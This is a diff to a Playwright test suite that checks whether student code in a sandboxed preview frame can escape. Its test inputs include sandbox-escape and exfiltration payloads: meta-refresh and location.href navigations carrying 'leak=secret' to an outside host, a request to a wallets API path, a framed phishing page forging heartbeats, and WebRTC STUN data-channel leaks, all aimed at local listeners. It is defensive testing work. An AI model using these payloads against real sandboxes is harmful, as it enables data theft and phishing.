@@ -1,27 +1,61 @@
-import { createServer, type Server } from 'node:http';
+import { createSocket, type Socket } from 'node:dgram';
+import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
+import { createServer as createSecureServer } from 'node:https';
 import type { AddressInfo } from 'node:net';
 import { expect, type Page, test } from '@playwright/test';
+import { selfSignedCertificate } from '../scripts/self-signed-certificate.mjs';
 import { registerStudent, storedTokens } from './support';
 
 /**
- * The preview's attack suite (issue 17): student code tries to get out of the sandboxed frame in
- * every way the issue names. Each attempt must fail; a local listener proves nothing got out.
+ * The preview's attack suite: student code tries to get out of the sandboxed frame in every way
+ * an attacker found. Each attempt must fail; local listeners (http, https and a UDP socket) prove
+ * nothing got out.
  */
 
+/** A page that keeps the preview's watchdog fed, as a phishing page would once framed. */
+const phishingPage = `<h1>Sign in again</h1>
+<script>setInterval(() => parent.postMessage({ sparkedPreview: true, type: 'alive' }, '*'), 100);</script>`;
+
 let listener: Server;
+let secureListener: Server;
+let stun: Socket;
 let hits: string[];
+let packets: number;
 let outside: string;
+let secureOutside: string;
+let stunPort: number;
+const listen = async (server: Server) => {
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  return (server.address() as AddressInfo).port;
+};
+const record = (scheme: string) => (request: IncomingMessage, response: ServerResponse) => {
+  hits.push(`${scheme} ${request.method} ${request.url}`);
+  const phishing = request.url === '/phish';
+  response.writeHead(200, {
+    'access-control-allow-origin': '*',
+    'content-type': phishing ? 'text/html' : 'text/plain',
+  });
+  response.end(phishing ? phishingPage : 'leaked');
+};
 test.beforeAll(async () => {
   hits = [];
-  listener = createServer((request, response) => {
-    hits.push(`${request.method} ${request.url}`);
-    response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'text/plain' });
-    response.end('leaked');
+  packets = 0;
+  listener = createServer(record('http'));
+  outside = `http://127.0.0.1:${await listen(listener)}`;
+  secureListener = createSecureServer(selfSignedCertificate(), record('https'));
+  secureOutside = `https://127.0.0.1:${await listen(secureListener)}`;
+  stun = createSocket('udp4');
+  stun.on('message', () => {
+    packets += 1;
   });
-  await new Promise<void>((resolve) => listener.listen(0, '127.0.0.1', resolve));
-  outside = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
+  await new Promise<void>((resolve) => stun.bind(0, '127.0.0.1', resolve));
+  stunPort = stun.address().port;
 });
-test.afterAll(() => new Promise<void>((resolve) => listener.close(() => resolve())));
+test.afterAll(async () => {
+  await new Promise<void>((resolve) => listener.close(() => resolve()));
+  await new Promise<void>((resolve) => secureListener.close(() => resolve()));
+  await new Promise<void>((resolve) => stun.close(() => resolve()));
+});
 
 /** Puts `js` into a new project of a fresh student, opens it and runs it. */
 async function runScript(page: Page, js: string, html = '<h1>Attack</h1>') {
@@ -142,4 +176,97 @@ test('a frame frozen where no loop guard reaches is closed by the watchdog', asy
 test('an error in the script is shown with its line in the editor', async ({ page }) => {
   const log = await runScript(page, 'const ok = 1;\nmissing();\n');
   await expect(log).toContainText('Line 2: Uncaught ReferenceError: missing is not defined');
+});
+
+test.describe('a preview that navigates itself', () => {
+  // The https listener's certificate is self-signed: were the frame allowed to go there, it would.
+  test.use({ ignoreHTTPSErrors: true });
+  const closed = 'The project tried to open another page, so the preview closed it.';
+
+  /** Runs the project, then checks the preview closed with its reason and nothing got out. */
+  async function expectClosedAndNothingOut(page: Page, project: { js?: string; html?: string }) {
+    hits = [];
+    const requests: string[] = [];
+    page.on('request', (request) => requests.push(request.url()));
+    await runScript(page, project.js ?? '', project.html);
+    await page.waitForTimeout(3000);
+    expect(hits).toEqual([]);
+    expect(requests.filter((url) => url.includes('?d=') || url.includes('leak='))).toEqual([]);
+    await expect(page.getByText(closed)).toBeVisible();
+    await expect(page.locator('iframe[title="Preview of your project"]')).toHaveCount(0);
+  }
+
+  test('a meta refresh to an outside https page is refused and closes the preview', async ({
+    page,
+  }) => {
+    await expectClosedAndNothingOut(page, {
+      html: `<meta http-equiv="refresh" content="0;url=${secureOutside}/refresh?leak=secret">`,
+    });
+  });
+
+  test('location.href to an outside https page is refused and closes the preview', async ({
+    page,
+  }) => {
+    await expectClosedAndNothingOut(page, {
+      js: `location.href = '${secureOutside}/href?d=' + encodeURIComponent(document.title);`,
+    });
+  });
+
+  test('a same-origin navigation to the API is refused and closes the preview', async ({
+    page,
+  }) => {
+    await expectClosedAndNothingOut(page, { js: "location.href = '/tools-api/wallets?d=secret';" });
+  });
+
+  test('a navigated page cannot keep itself open with a forged heartbeat', async ({ page }) => {
+    hits = [];
+    await runScript(page, `location.href = '${secureOutside}/phish';`);
+    // Longer than the watchdog's limit: a page that fed it would still be showing.
+    await page.waitForTimeout(5000);
+    await expect(page.frameLocator('iframe').getByText('Sign in again')).toHaveCount(0);
+    expect(hits).toEqual([]);
+    await expect(page.getByText(closed)).toBeVisible();
+  });
+});
+
+test('WebRTC cannot send a packet, from the page or from a frame inside it', async ({ page }) => {
+  const offer = `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${'STUN'}' }] });
+pc.createDataChannel('leak');
+pc.createOffer().then((offer) => pc.setLocalDescription(offer));`;
+  const js = `try {
+${offer}
+  console.log('webrtc: reached');
+} catch {
+  console.log('webrtc: blocked');
+}
+const frame = document.createElement('iframe');
+frame.srcdoc = ${JSON.stringify(`<script>${offer}</script>`)};
+document.body.append(frame);
+console.log('done');`.replaceAll('STUN', String(stunPort));
+  const html = `<iframe srcdoc="${`<script>${offer}</script>`.replaceAll('STUN', String(stunPort)).replaceAll('"', '&quot;')}"></iframe>`;
+  packets = 0;
+  const log = await runScript(page, js, html);
+  await expect(log).toContainText('done');
+  await page.waitForTimeout(3000);
+  expect(packets).toBe(0);
+  await expect(log).toContainText('webrtc: blocked');
+});
+
+test('a loop inside a script of the HTML is stopped and reported with its line', async ({
+  page,
+}) => {
+  const log = await runScript(
+    page,
+    '',
+    "<h1>Loop</h1>\n<script>\nconsole.log('before');\nwhile (true) {}\n</script>",
+  );
+  await expect(
+    page.getByText(
+      'A loop on line 4 of the HTML ran for more than a second, so the preview stopped it.',
+    ),
+  ).toBeVisible();
+  await expect(log).toContainText('before');
+  await expect(log).toContainText(
+    'HTML line 4: a loop ran for more than a second and was stopped.',
+  );
 });
